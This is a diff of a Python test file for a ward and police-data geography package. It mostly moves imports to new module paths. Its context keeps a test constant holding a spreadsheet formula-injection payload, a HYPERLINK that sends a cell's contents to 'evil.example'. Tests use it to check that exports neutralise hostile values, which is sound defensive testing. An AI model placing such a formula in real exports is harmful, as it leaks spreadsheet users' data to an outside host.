@@ -22,10 +22,10 @@ from conftest import HEADER, ROOT, TINY_WARDS, police_row, tiny_wards_geojson, w
 
 from vrc_geo.cli import main
 from vrc_geo.config import find_sources
+from vrc_geo.dataset.store import load_police
 from vrc_geo.errors import BoundaryError, InputFileError, ServiceError
-from vrc_geo.export import table_bytes
 from vrc_geo.io.police import read_police
-from vrc_geo.store import load_police
+from vrc_geo.io.writers import table_bytes
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
@@ -161,7 +161,7 @@ def test_export_wards_with_a_hostile_ward_name(capsys, tmp_path):
 def test_hotspot_top_locations_are_neutralised(sample_dataset):
     from dataclasses import replace
 
-    from vrc_geo.aggregate import make_selection
+    from vrc_geo.dataset.aggregate import make_selection
     from vrc_geo.hotspots.report import hotspot_file_bytes
     from vrc_geo.hotspots.service import hotspots_for
 
@@ -223,7 +223,7 @@ def test_health_record_at_an_impossible_point_is_refused(sample_dataset):
 
 
 def test_place_records_never_puts_a_non_finite_point_in_a_ward(sample_dataset):
-    from vrc_geo.geography import place_records
+    from vrc_geo.dataset.geography import place_records
 
     records = pd.DataFrame(
         {"lon": [np.inf, np.nan, 1.0], "lat": [np.inf, 51.3, np.nan], "lsoa_code": None, "lsoa_name": None}
@@ -351,7 +351,7 @@ def test_cache_key_includes_how_files_were_chosen(tmp_path, monkeypatch):
 def test_lazy_tables_use_unique_temporary_names(tmp_path, monkeypatch):
     import threading
 
-    from vrc_geo.store import WardTable
+    from vrc_geo.dataset.store import WardTable
 
     used: list[str] = []
     original = pd.DataFrame.to_parquet
